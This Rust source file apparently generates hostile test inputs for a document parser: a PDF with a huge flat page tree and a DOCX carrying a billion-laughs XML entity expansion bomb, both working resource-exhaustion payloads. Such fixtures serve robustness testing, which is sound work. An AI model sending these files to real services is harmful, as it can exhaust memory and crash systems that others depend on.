//! Files made to hurt whoever reads them.

use std::fmt::Write as _;
use std::io::{Cursor, Write as _};

/// A PDF of so many empty pages, all children of one node.
pub fn page_tree(pages: usize) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    let mut object = |bytes: &mut Vec<u8>, content: &str| {
        places.push(bytes.len());
        write!(bytes, "{} 0 obj\n{content}\nendobj\n", places.len()).unwrap();
    };
    object(&mut bytes, "<< /Type /Catalog /Pages 2 0 R >>");
    let kids = (0..pages).fold(String::new(), |mut kids, nth| {
        write!(kids, "{} 0 R ", nth + 3).unwrap();
        kids
    });
    object(&mut bytes, &format!("<< /Type /Pages /Count {pages} /Kids [{kids}] >>"));
    for _ in 0..pages {
        object(&mut bytes, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>");
    }
    let (start, count) = (bytes.len(), places.len() + 1);
    write!(bytes, "xref\n0 {count}\n0000000000 65535 f \n").unwrap();
    for place in places {
        writeln!(bytes, "{place:010} 00000 n ").unwrap();
    }
    write!(bytes, "trailer\n<< /Size {count} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n").unwrap();
    bytes
}

/// A DOCX whose text is an entity of ten of another, of ten of another, and so on: a gigabyte of laughs.
pub fn entity_bomb() -> Vec<u8> {
    let mut document = String::from("<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY e0 \"laughter, \">");
    for level in 1..=8 {
        let ten = format!("&e{};", level - 1).repeat(10);
        write!(document, "<!ENTITY e{level} \"{ten}\">").unwrap();
    }
    document.push_str(
        "]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">\
         <w:body><w:p><w:r><w:t>&e8;</w:t></w:r></w:p></w:body></w:document>",
    );
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Override PartName=\"/word/document.xml\" \
         ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
         <Relationship Id=\"r1\" Target=\"word/document.xml\" \
         Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\"/></Relationships>";
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, part) in
        [("[Content_Types].xml", types), ("_rels/.rels", relations), ("word/document.xml", document.as_str())]
    {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(part.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}
